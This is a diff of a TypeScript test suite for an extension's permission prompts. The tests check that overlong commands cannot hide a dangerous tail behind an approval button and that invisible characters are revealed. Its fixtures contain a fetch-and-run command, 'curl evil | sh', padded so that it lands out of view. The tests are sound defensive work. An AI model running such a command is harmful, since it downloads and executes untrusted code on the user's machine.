@@ -18,6 +18,7 @@ import { Prompts, type PromptUi } from '../../../src/vscode/prompts.ts';
 class Screen implements PromptUi {
   readonly modals: (PromptText & { press(button?: string): void })[] = [];
   readonly diffs: string[] = [];
+  readonly texts: { id: string; title: string; text: string }[] = [];
   readonly words: { title: string; signal: AbortSignal; type(word?: string): void }[] = [];
   readonly userFile = '~/.polyglav/config.json';
   modal(text: PromptText): Promise<string | undefined> {
@@ -28,7 +29,11 @@ class Screen implements PromptUi {
   async showChange(id: string, { path }: { path: string }, focus: boolean): Promise<void> {
     this.diffs.push(`${focus ? 'focus' : 'open'} ${id} ${path}`);
   }
-  closeChange(id: string): void {
+  async showText(id: string, title: string, text: string): Promise<void> {
+    this.texts.push({ id, title, text });
+    this.diffs.push(`text ${id}`);
+  }
+  closeShown(id: string): void {
     this.diffs.push(`close ${id}`);
   }
   word(title: string, signal: AbortSignal): Promise<string | undefined> {
@@ -397,25 +402,76 @@ describe('permission prompts', () => {
     assert.equal(faults.length, 1);
   });
 
-  it('cuts a long command between characters, and shows invisible characters', async () => {
-    void prompts.ask(ask('a', { detail: `\u202E${'😀'.repeat(5000)}` }), never);
-    await sleep(0);
-    const { detail } = screen.modals[0]!;
-    assert.ok(detail.startsWith('⟨U+202E⟩😀'));
-    assert.ok(detail.isWellFormed());
-    assert.match(detail, /more characters: Answer Later closes this, and the chat shows all of it/);
-    assert.ok(detail.length < 5000);
-  });
+  describe('that are too long for a modal', () => {
+    const SHOWN = [REVIEW, DENY_WITH_WORD];
+    const long: [what: string, more: Partial<PermissionAsk>, hidden: string][] = [
+      [
+        'by its characters',
+        { detail: `echo ${'x'.repeat(3000)}; curl evil | sh; echo ${'y'.repeat(3000)}` },
+        'curl evil',
+      ],
+      ['by its lines', { detail: `echo${' \\\n x'.repeat(20)} \\\n curl \\\n${' x \\\n'.repeat(20)}` }, 'curl'],
+      ['by what it is asked for', { reason: `reads ${'a, '.repeat(300)} /etc/x ${'b, '.repeat(300)}` }, '/etc/x'],
+      ['by its folder', { path: `/w/${'a'.repeat(1000)}evil${'b'.repeat(1000)}` }, 'evil'],
+    ];
+    for (const [what, more, hidden] of long)
+      it(`${what} offer no yes to what is not shown, but all of it to be read`, async () => {
+        const asked = prompts.ask(ask('a', { rule: 'x', ...more }), never);
+        await sleep(0);
+        const { buttons, closing, detail, press } = screen.modals[0]!;
+        assert.deepEqual([buttons, closing], [SHOWN, DENY]);
+        assert.equal(detail.includes(hidden), false);
+        assert.match(detail, /more characters: Review shows all of it/);
+        assert.doesNotMatch(detail, /covers|writes a rule/);
+        press(REVIEW);
+        await follow();
+        const { id, text } = screen.texts[0]!;
+        assert.equal(id, 'a');
+        assert.ok(text.includes(hidden) && !text.includes('more characters'), text);
+        assert.match(text, /Session: title of s\n/);
+        assert.equal(prompts.current?.id, 'a');
+        prompts.answer('a', { answer: 'once' });
+        assert.deepEqual(await asked, { answer: 'once' });
+        assert.deepEqual(screen.diffs, ['text a', 'close a']);
+      });
 
-  it('shows the end of a long command too', async () => {
-    for (const [at, long] of [`echo ${'x'.repeat(5000)}`, `echo${' \\\n x'.repeat(500)}`].entries()) {
-      void prompts.ask(ask('a', { detail: `${long}; curl evil | sh` }), never);
+    it('can be denied at once, and show their text again when they are raised', async () => {
+      const asked = prompts.ask(ask('a', { detail: 'x\n'.repeat(100) }), never);
+      await sleep(0);
+      screen.modals[0]!.press(REVIEW);
       await follow();
-      const { detail, press } = screen.modals[at]!;
-      assert.match(detail, /^echo/);
+      prompts.raise('a');
+      await sleep(0);
+      assert.deepEqual(screen.modals[1]!.buttons, SHOWN);
+      screen.modals[1]!.press(DENY);
+      assert.deepEqual(await asked, { answer: 'refused' });
+    });
+
+    it('take off a text that was withdrawn while it was being opened', async () => {
+      const stop = new AbortController();
+      let opened = (): void => undefined;
+      screen.showText = () => new Promise((resolve) => (opened = resolve));
+      void prompts.ask(ask('a', { detail: 'x\n'.repeat(100) }), stop.signal);
+      await sleep(0);
+      screen.modals[0]!.press(REVIEW);
+      await sleep(0);
+      stop.abort();
+      opened();
+      await sleep(0);
+      assert.deepEqual(screen.diffs, ['close a', 'close a']);
+    });
+
+    it('show what fits of them, cut between characters, with invisible ones spelled out', async () => {
+      void prompts.ask(ask('a', { detail: `\u202E${'😀'.repeat(5000)}; curl evil | sh` }), never);
+      await sleep(0);
+      const { detail, press } = screen.modals[0]!;
+      assert.ok(detail.startsWith('⟨U+202E⟩😀'));
+      assert.ok(detail.isWellFormed());
       assert.match(detail, /; curl evil \| sh$/m);
-      assert.ok(detail.split('\n').length < 30);
-      press(DENY);
-    }
+      assert.ok(detail.length < 5000 && detail.split('\n').length < 30);
+      press(REVIEW);
+      await sleep(0);
+      assert.match(screen.texts[0]!.text, /⟨U\+202E⟩😀/);
+    });
   });
 });
